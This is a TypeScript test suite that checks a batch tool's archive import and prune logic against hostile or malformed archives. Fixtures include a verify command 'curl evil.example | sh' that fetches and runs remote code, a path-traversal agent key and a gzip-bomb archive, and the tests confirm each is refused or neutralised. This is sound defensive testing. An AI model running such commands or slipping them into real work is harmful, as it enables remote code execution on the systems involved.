/**
 * An archive is untrusted input (issue 13): each finding of the review reproduced as an archive a
 * hostile or careless hand could make — and what import and prune must do with it.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { exportBatch, importBatch, pruneBatches } from '../src/ops/retention.js';
import { BatchStore } from '../src/store/batch-store.js';
import type { BatchMeta } from '../src/batch/records.js';
import { engineFixtures, FAST } from './helpers/engine.js';
import { keysUnder, testPrefix } from './helpers/redis.js';

const { redis } = engineFixtures('hostile-archive');
const dir = mkdtempSync(path.join(os.tmpdir(), 'nova-fleet-archive-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const DAY = 86_400_000;
const baseMeta = (id: string, extra: Partial<BatchMeta> = {}): BatchMeta => ({
  id,
  kind: 'rollout',
  manifest: 'm.ndjson',
  digest: 'd'.repeat(64),
  createdAt: Date.now() - 40 * DAY,
  status: 'completed',
  total: 1,
  enqueued: true,
  options: FAST,
  ...extra,
});
const agentLine = (key = 'org-1/agent-1') => ({ type: 'agent', key, status: 'applied', attempts: 1, error: '', changed: ['name'], before: { id: 'agent-1', name: 'A' }, after: { id: 'agent-1', name: 'B' }, job: { k: key, l: 2, i: { name: 'B' } } });

function archive(name: string, lines: unknown[], cut = 0): string {
  const file = path.join(dir, name);
  const gz = gzipSync(lines.map((l) => JSON.stringify(l)).join('\n'));
  writeFileSync(file, cut > 0 ? gz.subarray(0, gz.length - cut) : gz);
  return file;
}

/** A store with one running batch (recent) and its keys, to see that nothing wipes them. */
async function storeWithRunningBatch(name: string) {
  const store = new BatchStore(redis, testPrefix(name));
  await store.createBatch(baseMeta('live-1', { status: 'running', createdAt: Date.now() - 40 * DAY }));
  await store.saveBefore('live-1', 'org-1/agent-9', { id: 'agent-9', name: 'original' });
  return store;
}

describe('import: the archive is checked whole before anything is written', () => {
  it('a batch id "*" is refused, and prune can never widen to the whole prefix', async () => {
    const store = await storeWithRunningBatch('archive-star');
    const file = archive('star.ndjson.gz', [{ type: 'batch', version: 1, meta: baseMeta('*') }, agentLine()]);
    await expect(importBatch(store, file)).rejects.toThrow('meta.id: not a batch id');
    await expect(store.deleteBatch('*')).rejects.toThrow('invalid batch id');
    await pruneBatches(store, 1);
    expect(await store.loadBefore('live-1', 'org-1/agent-9')).toEqual({ id: 'agent-9', name: 'original' });
  });

  it('an archive of a running batch with a verify command comes back inert: ended, no command, not polled', async () => {
    const store = new BatchStore(redis, testPrefix('archive-alive'));
    const meta = baseMeta('alive-1', { status: 'running', verifyCmd: 'curl evil.example | sh', notifyUrl: 'https://hooks.example/T0KEN', waves: [1], wave: 0, approvedWave: -1 });
    const file = archive('alive.ndjson.gz', [{ type: 'batch', version: 1, meta }, agentLine()]);
    const imported = await importBatch(store, file);
    expect(imported.meta.status).toBe('cancelled');
    expect(imported.meta.haltReason).toBe('imported: it was running; an imported batch is never active');
    expect(imported.meta.verifyCmd).toBeUndefined();
    expect(imported.meta.notifyUrl).toBeUndefined();
    expect(await store.listActiveBatchIds()).toEqual([]);
    // With --trust the command and URL are kept, but the batch is still not active.
    const trusted = new BatchStore(redis, testPrefix('archive-trust'));
    const again = await importBatch(trusted, file, { trust: true });
    expect(again.meta).toMatchObject({ status: 'cancelled', verifyCmd: 'curl evil.example | sh', notifyUrl: 'https://hooks.example/T0KEN' });
  });

  it('"options": null, createdAt 1e20, a bad agent key or a job for another agent: refused, nothing written', async () => {
    const prefix = testPrefix('archive-bad');
    const store = new BatchStore(redis, prefix);
    const cases: Array<[unknown[], string]> = [
      [[{ type: 'batch', version: 1, meta: { ...baseMeta('bad-1'), options: null } }], 'meta.options'],
      [[{ type: 'batch', version: 1, meta: baseMeta('bad-2', { createdAt: 1e20 }) }], 'meta.createdAt'],
      [[{ type: 'batch', version: 1, meta: baseMeta('bad-3') }, agentLine('no-slash')], 'key: not an agent key'],
      [[{ type: 'batch', version: 1, meta: baseMeta('bad-4') }, agentLine('org-1/../../x')], 'key: not an agent key'],
      [[{ type: 'batch', version: 1, meta: baseMeta('bad-5') }, { ...agentLine(), job: { k: 'org-2/other', l: 1 } }], 'its job names another agent'],
    ];
    for (const [lines, message] of cases) {
      await expect(importBatch(store, archive('bad.ndjson.gz', lines))).rejects.toThrow(message);
    }
    expect(await keysUnder(redis as never, prefix)).toEqual([]);
  });

  it('bounded: blank lines, more records than declared, and a gzip bomb are refused at once, nothing written', async () => {
    // Defect 11: a 16 KB gzip of newlines took 35 s to import (read twice); a 1.4 MB archive added
    // 458 MB to Redis.
    const prefix = testPrefix('archive-bounds');
    const store = new BatchStore(redis, prefix);
    const newlines = path.join(dir, 'newlines.ndjson.gz');
    writeFileSync(newlines, gzipSync(Buffer.alloc(16 * 1024 * 1024, 10), { level: 9 }));
    const started = Date.now();
    await expect(importBatch(store, newlines)).rejects.toThrow('newlines.ndjson.gz:1: a blank line');
    expect(Date.now() - started).toBeLessThan(5000);
    const head = { type: 'batch', version: 1, meta: baseMeta('bomb-1', { total: 2 }) };
    await expect(importBatch(store, archive('extra.ndjson.gz', [head, agentLine('org-1/a1'), agentLine('org-1/a2'), agentLine('org-1/a3')]))).rejects.toThrow('more agent records than the 2 its batch line declares');
    await expect(importBatch(store, archive('patches.ndjson.gz', [head, ...Array.from({ length: 3 }, (_, i) => ({ type: 'patch', digest: `d${i}`, json: '{}' }))]))).rejects.toThrow('more patches than the batch has agents');
    // 20 patch lines of 4 MiB each: 80 MiB of text from a ~80 KB gzip.
    const big = JSON.stringify({ name: 'x'.repeat(4 * 1024 * 1024) });
    const bomb = archive('bomb.ndjson.gz', [baseMeta('bomb-2', { total: 100 })].map((meta) => ({ type: 'batch', version: 1, meta })).concat(Array.from({ length: 20 }, (_, i) => ({ type: 'patch', digest: `p${i}`, json: big }) as never)));
    await expect(importBatch(store, bomb)).rejects.toThrow('times its size');
    expect(await keysUnder(redis as never, prefix)).toEqual([]);
  }, 30_000);

  it('a truncated archive imports nothing, and the whole one imports after it', async () => {
    const prefix = testPrefix('archive-cut');
    const store = new BatchStore(redis, prefix);
    const lines = [{ type: 'batch', version: 1, meta: baseMeta('cut-1', { total: 200 }) }, ...Array.from({ length: 200 }, (_, i) => agentLine(`org-1/agent-${i}`))];
    await expect(importBatch(store, archive('cut.ndjson.gz', lines, 40))).rejects.toThrow('is not a complete gzip archive');
    expect(await keysUnder(redis as never, prefix)).toEqual([]);
    const whole = await importBatch(store, archive('whole.ndjson.gz', lines));
    expect(whole.agents).toBe(200);
    expect((await store.counts('cut-1')).applied).toBe(200);
  });

  it('round-trips a real export (patch, file and job lines included)', async () => {
    const from = new BatchStore(redis, testPrefix('archive-rt-from'));
    await from.createBatch(baseMeta('rt-1'));
    await from.storePatches('rt-1', [['abcDEF_-12', JSON.stringify({ prompt_template: { $file: 'p.md' } })]]);
    await from.storeFile('rt-1', 'p.md', 'Hello {{name}}');
    await from.register('rt-1', ['org-1/agent-1']);
    await from.saveBefore('rt-1', 'org-1/agent-1', { id: 'agent-1', prompt_template: 'old' });
    await from.finish('rt-1', 'org-1/agent-1', 'failed', 'pending', { error: 'boom', job: { k: 'org-1/agent-1', l: 3, p: 'abcDEF_-12', v: { name: 'x' } } });
    const file = path.join(dir, 'rt.ndjson.gz');
    await exportBatch(from, 'rt-1', file);
    const to = new BatchStore(redis, testPrefix('archive-rt-to'));
    await importBatch(to, file);
    expect(await to.loadPatch('rt-1', 'abcDEF_-12')).toBe(JSON.stringify({ prompt_template: { $file: 'p.md' } }));
    expect(await to.loadFile('rt-1', 'p.md')).toBe('Hello {{name}}');
    expect(await to.retryJob('rt-1', 'org-1/agent-1')).toEqual({ k: 'org-1/agent-1', l: 3, p: 'abcDEF_-12', v: { name: 'x' } });
  });
});

describe('prune keeps what is still needed', () => {
  it('never deletes a halted batch, nor the origin of a rollback still running', async () => {
    const store = new BatchStore(redis, testPrefix('prune-keep'));
    await store.createBatch(baseMeta('halted-1', { status: 'halted', haltReason: 'error_budget: 3 agents failed, 2 allowed' }));
    await store.createBatch(baseMeta('origin-1', { status: 'completed' }));
    await store.createBatch(baseMeta('undo-1', { kind: 'rollback', rollbackOf: 'origin-1', status: 'running', createdAt: Date.now() }));
    await store.createBatch(baseMeta('old-1', { status: 'completed' }));
    const { pruned, keptActive } = await pruneBatches(store, 30);
    expect(pruned).toEqual(['old-1']);
    expect(keptActive.sort()).toEqual(['halted-1', 'origin-1']);
  });

  it('a batch that becomes a running rollback’s origin while the question is read is kept (sorted again after the answer)', async () => {
    const store = new BatchStore(redis, testPrefix('prune-asked'));
    await store.createBatch(baseMeta('old-a', { status: 'completed' }));
    await store.createBatch(baseMeta('old-b', { status: 'completed' }));
    const { pruned, keptActive } = await pruneBatches(store, 30, Date.now(), async (question) => {
      expect(question).toContain('delete 2 batches');
      // Meanwhile another operator starts rolling old-a back.
      await store.createBatch(baseMeta('undo-a', { kind: 'rollback', rollbackOf: 'old-a', status: 'running', createdAt: Date.now() }));
    });
    expect(pruned).toEqual(['old-b']);
    expect(keptActive).toEqual(['old-a']);
    expect(await store.getBatch('old-a')).toBeDefined();
  });
});
